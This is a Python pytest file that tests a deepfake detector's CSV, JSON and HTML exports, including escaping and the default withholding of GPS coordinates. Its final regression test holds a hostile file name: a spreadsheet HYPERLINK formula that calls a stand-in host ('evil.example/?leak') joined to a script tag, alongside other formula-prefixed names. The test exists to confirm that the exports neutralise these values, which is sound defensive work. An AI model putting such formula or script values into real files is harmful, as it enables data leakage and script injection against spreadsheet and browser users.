"""Export builders (CSV, JSON, HTML report) on real results, and the bundled samples."""

from __future__ import annotations

import base64
import csv
import dataclasses
import html
import io
import json
import re

import numpy as np
import pytest
from provenance_samples import LEAKED_COORDINATES, signed_ai_photo_with_gps

from deepfake import ImageDeepfakeDetector, VideoDeepfakeDetector
from deepfake.exports import history_csv, history_json, history_row, html_report
from deepfake.interfaces.samples import SAMPLE_FAKE_NAME, SAMPLE_REAL_NAME, sample_fake, sample_real
from deepfake.media import decode_image_bytes, sniff_kind
from deepfake.provenance import EVIDENCE_RULES, ProvenanceSettings
from deepfake.results import HISTORY_COLUMNS, DetectionResult, VideoResult


@pytest.fixture(scope="module")
def photo(engine, hopper_jpeg_bytes, tmp_path_factory) -> DetectionResult:
    detector = ImageDeepfakeDetector(engine=engine, output_dir=tmp_path_factory.mktemp("photo"))
    return detector.detect(hopper_jpeg_bytes, name="hopper <1>.jpg")


@pytest.fixture(scope="module")
def clip(engine, synthetic_clip, tmp_path_factory) -> VideoResult:
    detector = VideoDeepfakeDetector(engine=engine, output_dir=tmp_path_factory.mktemp("clip"))
    return detector.detect(synthetic_clip, name="clip.mp4", num_frames=6)


@pytest.fixture(scope="module")
def rows(photo, clip) -> list[dict]:
    return [history_row(photo), history_row(clip),
            history_row(file_name="broken.jpg", error="'broken.jpg' is truncated.", media_type="image")]  # fmt: skip


def test_csv_has_the_schema_and_one_row_per_file(rows, photo, clip):
    parsed = list(csv.DictReader(io.StringIO(history_csv(rows))))
    assert list(parsed[0]) == list(HISTORY_COLUMNS)
    assert [r["file_name"] for r in parsed] == ["hopper <1>.jpg", "clip.mp4", "broken.jpg"]
    assert [r["verdict"] for r in parsed] == [photo.verdict, clip.verdict, "ERROR"]
    assert [r["media_type"] for r in parsed] == ["image", "video", "image"]
    assert float(parsed[0]["fake_probability"]) == pytest.approx(photo.fake_probability, abs=1e-6)
    assert parsed[0]["sha256"] == photo.sha256 and len(photo.sha256) == 64
    assert int(parsed[0]["faces"]) == 1 and int(parsed[0]["frames"]) == 0
    assert int(parsed[1]["frames"]) == clip.frame_count == 6
    assert parsed[1]["model_version"] == "test" and float(parsed[1]["threshold"]) == pytest.approx(0.6)
    assert parsed[2]["error"] == "'broken.jpg' is truncated." and parsed[2]["fake_probability"] == ""


def test_json_has_the_same_rows_and_full_results(rows, photo, clip):
    payload = json.loads(history_json(rows, [photo.to_dict(), clip.to_dict()]))
    assert payload["schema"] == list(HISTORY_COLUMNS)
    assert [list(r) for r in payload["rows"]] == [list(HISTORY_COLUMNS)] * 3
    assert payload["rows"][:2] == [photo.history_row(), clip.history_row()]
    assert payload["rows"][2]["verdict"] == "ERROR" and payload["rows"][2]["analyzed_at"]
    assert payload["results"][0]["faces"][0]["fake_probability"] == pytest.approx(photo.fake_probability, abs=1e-6)
    assert len(payload["results"][1]["timeline"]) == 6
    assert "results" not in json.loads(history_json(rows))


def _images(report: str) -> list[tuple[str, bytes]]:
    return [(mime, base64.b64decode(data)) for mime, data in re.findall(r'src="data:(image/\w+);base64,([^"]+)"', report)]


def test_html_report_is_self_contained(photo, clip, rows):
    report = html_report([photo, clip], errors=[rows[2]])
    assert report.startswith("<!DOCTYPE html>") and report.rstrip().endswith("</html>")
    assert "data:image/png;base64," in report
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", report), "no external resources"
    assert "<script" not in report.lower() and "<link" not in report.lower()
    images = _images(report)
    assert len(images) == report.count("<img ")  # every picture is embedded
    for mime, data in images:
        image = decode_image_bytes(data, "embedded")
        assert image.ndim == 3 and (mime == "image/png") == data.startswith(b"\x89PNG")
    # photo: gauge, original, heatmap, face crop; video: gauge, timeline, and suspicious frames
    assert len(images) >= 4 + 2 + 2 * len(clip.suspicious_frames)
    assert "hopper &lt;1&gt;.jpg" in report and "hopper <1>" not in report  # file names are escaped
    assert "clip.mp4" in report and "broken.jpg" in report and "truncated" in report
    assert photo.sha256 in report and clip.sha256 in report
    assert f"{photo.fake_probability:.0%}" in report and "not proof" in report


def test_html_report_follows_the_result_it_is_given(engine, photo):
    relabelled = ImageDeepfakeDetector(engine=engine).rejudge(photo, 0.05)
    report = html_report([relabelled])
    assert ">FAKE</span>" in report and "5% threshold" in report
    assert html_report([]).count("<section") == 0  # an empty session is still a valid report


def test_sample_real_is_the_bundled_photo(hopper_jpeg_bytes):
    name, data = sample_real()
    assert name == SAMPLE_REAL_NAME and data == hopper_jpeg_bytes and sniff_kind(data) == "image"


def test_sample_fake_blends_the_face_only(engine, hopper_rgb):
    name, data = sample_fake(engine.face_detector)
    assert name == SAMPLE_FAKE_NAME and data.startswith(b"\x89PNG")
    fake = decode_image_bytes(data, name)
    assert fake.shape == hopper_rgb.shape
    changed = np.abs(fake.astype(int) - hopper_rgb.astype(int)).sum(axis=2) > 0
    x1, y1, x2, y2 = engine.face_detector.detect(hopper_rgb)[0].box
    ys, xs = np.nonzero(changed)
    assert changed.mean() > 0.03, "a visible part of the picture was altered"
    centre = ((x1 + x2) / 2, (y1 + y2) / 2)
    assert abs(xs.mean() - centre[0]) < (x2 - x1) / 3 and abs(ys.mean() - centre[1]) < (y2 - y1) / 3
    half = max(x2 - x1, y2 - y1)  # the blend happens in a square twice the face's size around it
    assert xs.min() >= centre[0] - half - 1 and xs.max() <= centre[0] + half + 1
    assert ys.min() >= centre[1] - half - 1 and ys.max() <= centre[1] + half + 1
    assert sample_fake(engine.face_detector)[1] == data, "the same fake every time"


def test_caveats_travel_with_the_verdict_into_the_exports(engine):
    wall = np.tile(np.linspace(0, 255, 160, dtype=np.uint8)[None, :, None], (120, 1, 3))  # no face
    result = ImageDeepfakeDetector(engine=engine).detect(wall, explain=False, name="wall.png")
    row = history_row(result)
    assert "No face found" in row["warnings"] and row["warnings"] == " | ".join(result.warnings)
    assert "No face found" in list(csv.DictReader(io.StringIO(history_csv([row]))))[0]["warnings"]


def test_report_marks_a_face_cut_off_by_the_edge(photo):
    cut = dataclasses.replace(photo, faces=[dataclasses.replace(photo.faces[0], cut_off=True)])
    assert "Face 1: " in html_report([photo]) and "(cut off by the edge)" not in html_report([photo])
    assert "(cut off by the edge)" in html_report([cut])


@pytest.fixture(scope="module")
def declared(engine, hopper_jpeg_bytes) -> DetectionResult:
    """A photo with GPS, signed as AI-generated; the model is made to call it REAL (threshold 1)."""
    detector = ImageDeepfakeDetector(engine=engine)
    return detector.detect(signed_ai_photo_with_gps(hopper_jpeg_bytes), name="generated.jpg", threshold=1.0)


def test_evidence_travels_into_every_export_without_the_coordinates(declared, photo):
    assert declared.verdict == "FAKE" and declared.model_classification == "REAL"
    rows = [history_row(declared), history_row(photo)]
    parsed = list(csv.DictReader(io.StringIO(history_csv(rows))))
    assert parsed[0]["verdict"] == "FAKE" and "trainedAlgorithmicMedia" in parsed[0]["decided_by"]
    assert "generated by AI" in parsed[0]["evidence"] and "(GPS)" in parsed[0]["evidence"]
    assert parsed[1]["decided_by"] == "" and "JPEG compression" in parsed[1]["evidence"]  # hopper: no credentials
    payload = history_json(rows, [declared.to_dict()])
    report = html_report([declared])
    assert "<h3>Evidence</h3>" in report and "decides the verdict" in report and html.escape(EVIDENCE_RULES) in report
    for output in (history_csv(rows), payload, report):
        assert not any(c in output for c in LEAKED_COORDINATES), "GPS coordinates must not leave the machine"
    evidence = json.loads(payload)["results"][0]["evidence"]
    assert evidence[0]["source"] == "model" and evidence[1]["decides"]


def test_coordinates_are_exported_only_when_asked_for(engine, hopper_jpeg_bytes):
    asked = ImageDeepfakeDetector(engine=engine, provenance=ProvenanceSettings(include_location=True))
    result = asked.detect(signed_ai_photo_with_gps(hopper_jpeg_bytes), name="generated.jpg", explain=False)
    assert LEAKED_COORDINATES[0] in history_json([history_row(result)], [result.to_dict()])



HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak",1+1)<script>alert(1)</script>.jpg'


def test_a_formula_file_name_is_inert_in_csv_and_html(photo):
    """Regression: a file named like a formula landed in scan and dashboard CSVs as a live formula."""
    hostile = dataclasses.replace(photo, source=HOSTILE_NAME)
    rows = [history_row(hostile)] + [
        history_row(file_name=name, error=name, media_type="image") for name in ("+1+1.jpg", "-2.jpg", "@SUM(A1).jpg",
                                                                              "\tx.jpg", "\rx.jpg")
    ]  # fmt: skip
    parsed = list(csv.DictReader(io.StringIO(history_csv(rows), newline="")))
    for row in parsed:
        for column in ("file_name", "error"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    assert parsed[0]["file_name"] == "'" + HOSTILE_NAME  # shown as text, nothing lost
    assert float(parsed[0]["fake_probability"]) == pytest.approx(photo.fake_probability, abs=1e-6)  # numbers stay numbers

    report = html_report([hostile], errors=[history_row(file_name=HOSTILE_NAME, error=HOSTILE_NAME)])
    assert "<script>" not in report and html.escape(HOSTILE_NAME) in report
